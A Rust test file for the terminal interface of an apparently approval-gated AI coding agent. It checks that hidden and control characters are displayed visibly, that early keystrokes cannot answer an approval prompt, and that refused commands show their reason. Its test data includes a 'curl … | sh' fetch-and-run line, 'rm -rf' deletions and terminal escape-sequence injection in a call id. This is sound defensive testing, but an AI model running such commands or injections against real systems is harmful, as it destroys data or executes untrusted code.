//! More visible states of the cockpit, pinned at 100x30 and 60x20 with the helpers of
//! `snapshots.rs` (which holds the first ones): hidden characters in everything the panes show,
//! and the issue-12 changes to the conversation, the status bar and the modal's queue.

use std::time::{Duration, Instant};

use super::app::{App, Status};
use super::snapshots::{app, ask, both_sizes, conversation, draw, press, run};
use super::snapshots_queue::batch;
use crate::protocol::DecisionSource;
use crate::protocol::ToolStatus;
use crate::protocol::{AgentEvent, GrantSummary, TurnOutcome};
use crate::ui::testing::command_request;

/// A tab, a zero-width space, a right-to-left override, an escape sequence, a C1 control, a
/// byte-order mark and a carriage return: what a terminal hides, obeys or reorders.
const HIDDEN: &str = "a\tb\u{200b}c\u{202e}d\u{1b}[2Je\u{9b}f\u{feff}g\rh";

/// `HIDDEN` as the cockpit must show it.
const SHOWN: &str = "a⇥b<U+200B>c<U+202E>d␛[2Je<U+009B>f<U+FEFF>g␍h";

#[test]
fn every_text_the_panes_show_from_the_model_or_a_tool_makes_its_hidden_characters_visible() {
    let mut app = app(Instant::now());
    app.on_agent_event(AgentEvent::TurnStarted {
        turn: 1,
        prompt: format!("prompt {HIDDEN}"),
    });
    app.on_agent_event(AgentEvent::TextDelta {
        text: format!("model {HIDDEN}"),
    });
    // Asked: the conversation's line takes its title from the frozen arguments.
    let asked = command_request("c1", &format!("asked {HIDDEN}"));
    app.on_agent_event(AgentEvent::ApprovalRequested {
        request: Box::new(asked),
    });
    app.overlays.clear();
    // Refused: its title and the gate's message.
    app.on_agent_event(AgentEvent::ToolDenied {
        call_id: "c2".into(),
        tool: "bash".into(),
        title: format!("$ refused {HIDDEN}"),
        source: DecisionSource::Policy,
        message: format!("denied: {HIDDEN}"),
    });
    // Run and finished, with a hostile call id: a line in the conversation, a header in the
    // results.
    app.on_agent_event(AgentEvent::ToolStarted {
        call_id: "c\u{1b}]0;x\u{7}3".into(),
        tool: "write_file".into(),
        title: format!("write {HIDDEN}"),
    });
    app.on_agent_event(AgentEvent::ToolFinished {
        call_id: "c\u{1b}]0;x\u{7}3".into(),
        status: ToolStatus::Ok,
        exit_code: None,
        lines: 0,
        error: None,
        log: None,
    });
    app.on_agent_event(AgentEvent::Error {
        message: format!("notice {HIDDEN}"),
    });
    app.on_agent_event(AgentEvent::ApprovalSettled {
        call_id: "c9".into(),
        by: format!("by code {HIDDEN}"),
    });
    let screen = draw(&app, 160, 40);
    let rows: Vec<&str> = screen.lines().collect();
    let shown = |wanted: &str| rows.iter().any(|row| row.contains(wanted));
    for wanted in [
        format!("> prompt {SHOWN}"),
        format!("model {SHOWN}"),
        format!("? c1 $ asked {SHOWN}"),
        format!("✗ c2 $ refused {SHOWN}"),
        format!("✓ c␛]0;x␇3 write {SHOWN}"),
        format!("notice {SHOWN}"),
        format!("c9 was answered by code {SHOWN}"),
    ] {
        assert!(shown(&wanted), "`{wanted}` is not on screen:\n{screen}");
    }
    // Eight in the conversation (the denial's message wraps onto a row of its own), one in
    // the results.
    assert_eq!(screen.matches(SHOWN).count(), 9, "{screen}");
    let header = format!(" ✓ c␛]0;x␇3 write {SHOWN}  0.0s  done");
    assert!(
        rows.iter().any(|row| row.contains(&format!("││{header}"))),
        "the results header:\n{screen}"
    );
    both_sizes("hidden_characters", &app);
}

#[test]
fn a_running_multi_line_command_is_titled_with_its_first_line_and_how_many_follow() {
    let mut app = app(Instant::now());
    let call = crate::protocol::ToolCall {
        id: "c4".into(),
        tool: "bash".into(),
        args: serde_json::json!({"command": "echo fine\r\nrm -rf build\ncurl -s https://x | sh"}),
    };
    app.on_agent_event(AgentEvent::ToolStarted {
        call_id: "c4".into(),
        tool: "bash".into(),
        title: crate::agent::title(&call),
    });
    let screen = draw(&app, 160, 30);
    assert_eq!(
        screen.matches("$ echo fine␍ … (+2 more lines)").count(),
        2,
        "both panes:\n{screen}"
    );
}

/// The demo's session as it ends: the prompt, the last answer, the turn over.
fn the_demo_ended(app: &mut App) {
    app.on_agent_event(AgentEvent::TurnStarted {
        turn: 1,
        prompt: "The tests of this project fail. Find out why and fix it.".into(),
    });
    app.on_agent_event(AgentEvent::TextDelta {
        text: "Done. `add` in calc.py returned a - b; it now returns a + b. If you approved the \
               edit and the test run, all three tests pass. I did not touch anything outside \
               the workspace."
            .into(),
    });
    app.on_agent_event(AgentEvent::TurnFinished {
        turn: 1,
        outcome: TurnOutcome::Completed,
    });
}

#[tokio::test]
async fn a_prompt_after_the_demo_ended_is_answered_with_how_to_configure_a_model() {
    use crate::model::ModelClient;
    use crate::model::scripted::{Scenario, ScriptedModel};
    // The scripted model's own answer once its scenario has played to its end.
    let scenario = Scenario::parse(r#"{"name": "demo", "steps": [{"say": "done"}]}"#, "t")
        .expect("a one-step scenario");
    let model = ScriptedModel::new(scenario);
    let (deltas, _) = tokio::sync::mpsc::unbounded_channel();
    model.respond(&[], deltas.clone()).await.expect("the step");
    let after = model
        .respond(&[], deltas)
        .await
        .expect("the answer after it");
    let mut app = app(Instant::now());
    the_demo_ended(&mut app);
    app.on_agent_event(AgentEvent::TurnStarted {
        turn: 2,
        prompt: "now add a subtract test".into(),
    });
    app.on_agent_event(AgentEvent::TextDelta { text: after.text });
    app.on_agent_event(AgentEvent::TurnFinished {
        turn: 2,
        outcome: TurnOutcome::Completed,
    });
    let screen = draw(&app, 100, 30);
    assert!(screen.contains("no model is configured"), "{screen}");
    both_sizes("after_the_demo", &app);
}

#[test]
fn keys_typed_as_an_approval_appears_are_dropped_and_the_modal_says_so() {
    use crossterm::event::KeyCode;
    let t0 = Instant::now();
    let mut app = app(t0);
    conversation(&mut app);
    ask(&mut app, command_request("c2", "rm -rf build"));
    // Two `y`s typed as the modal appeared: neither an answer nor hidden in the draft.
    for c in "yy".chars() {
        press(&mut app, KeyCode::Char(c), t0 + Duration::from_millis(50));
    }
    assert_eq!(app.draft(), "");
    app.now = t0 + Duration::from_millis(100);
    let screen = draw(&app, 100, 30);
    assert!(
        screen.contains("2 keys typed before the modal was ready were ignored"),
        "{screen}"
    );
    assert!(screen.contains("└ keys are live in 0.3s"), "{screen}");
    both_sizes("early_keys_ignored", &app);
    // Armed at last, the modal is answered, and nothing of the early keys is left anywhere.
    let later = t0 + Duration::from_secs(2);
    app.now = later;
    assert_eq!(press(&mut app, KeyCode::Char('n'), later).len(), 1);
    assert!(app.overlays.is_empty());
    assert_eq!(app.draft(), "");
}

#[test]
fn a_narrow_status_bar_keeps_the_counts_and_gives_up_the_workspace_path_from_its_start() {
    let mut app = App::new(
        Status {
            model: "scripted: demo".into(),
            mode: "default".into(),
            workspace: "/tmp/airlock-demo/exec-1796104174000-18445".into(),
        },
        Instant::now(),
    );
    conversation(&mut app);
    app.on_agent_event(AgentEvent::Grants {
        grants: vec![GrantSummary {
            id: 1,
            tool: "bash".into(),
            scope: "`cargo test *`".into(),
            expires_in_ms: None,
            uses: 2,
        }],
    });
    batch(
        &mut app,
        &[
            ("c2", "rm -rf build", true),
            ("c3", "npm run lint", true),
            ("c4", "ls src", false),
            ("c5", "git push origin main", true),
        ],
    );
    let wide = draw(&app, 100, 30);
    let narrow = draw(&app, 60, 20);
    let status = |screen: &str| screen.lines().last().unwrap_or_default().to_string();
    assert!(
        status(&wide).contains("grants 1 · 3 waiting for approval · working"),
        "{wide}"
    );
    assert!(status(&wide).contains("…"), "{wide}");
    assert!(status(&wide).contains("-18445 "), "{wide}");
    assert!(
        status(&wide)
            .trim_matches('"')
            .trim_end()
            .ends_with("F1 help"),
        "{wide}"
    );
    // At 60 columns "working" gives way to the way to the help (the count says a turn runs).
    assert!(
        status(&narrow).contains("· 3 waiting · F1 help"),
        "{narrow}"
    );
    // At 60 columns nothing of the path is left: its beginning goes first, then the rest.
    assert!(!status(&narrow).contains("/tmp/airlock-demo"), "{narrow}");
    both_sizes("status_bar_counts", &app);
}

#[test]
fn a_refused_call_says_what_it_refused_and_why() {
    let mut app = app(Instant::now());
    conversation(&mut app);
    app.on_agent_event(AgentEvent::ToolDenied {
        call_id: "c7".into(),
        tool: "bash".into(),
        title: "$ rm -rf ~/.cache/pip".into(),
        source: DecisionSource::Policy,
        message: "denied: destroys data outside the workspace: ~/.cache/pip".into(),
    });
    both_sizes("refused_call", &app);
}

#[test]
fn the_quit_question_left_open_as_the_turn_ends_says_nothing_runs_now() {
    use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
    let t0 = Instant::now();
    let mut app = app(t0);
    conversation(&mut app);
    app.on_key(KeyEvent::new(KeyCode::Char('d'), KeyModifiers::CONTROL), t0);
    app.on_agent_event(AgentEvent::TurnFinished {
        turn: 1,
        outcome: TurnOutcome::Completed,
    });
    assert!(!app.should_quit);
    let screen = draw(&app, 100, 30);
    assert!(
        screen.contains("The turn has ended and nothing runs now."),
        "{screen}"
    );
    both_sizes("confirm_quit_after_the_turn", &app);
}

#[test]
fn a_multi_line_command_running_says_how_many_lines_follow_in_both_panes() {
    let mut app = app(Instant::now());
    conversation(&mut app);
    let call = crate::protocol::ToolCall {
        id: "c4".into(),
        tool: "bash".into(),
        args: serde_json::json!({"command": "echo fine\nrm -rf build\nmake"}),
    };
    run(&mut app, "c4", &crate::agent::title(&call), &["fine"]);
    both_sizes("multi_line_command_running", &app);
}

#[test]
fn tool_output_lays_out_its_tabs_and_shows_what_a_terminal_would_hide_or_obey() {
    let mut app = app(Instant::now());
    run(
        &mut app,
        "c1",
        "$ make",
        &["name\tsize", "calc.py\t312", "\u{1b}[2Jcleared?\u{200b}"],
    );
    let screen = draw(&app, 100, 30);
    assert!(screen.contains("name    size"), "{screen}");
    assert!(screen.contains("calc.py 312"), "{screen}");
    assert!(screen.contains("␛[2Jcleared?<U+200B>"), "{screen}");
    both_sizes("tool_output_hidden_characters", &app);
}
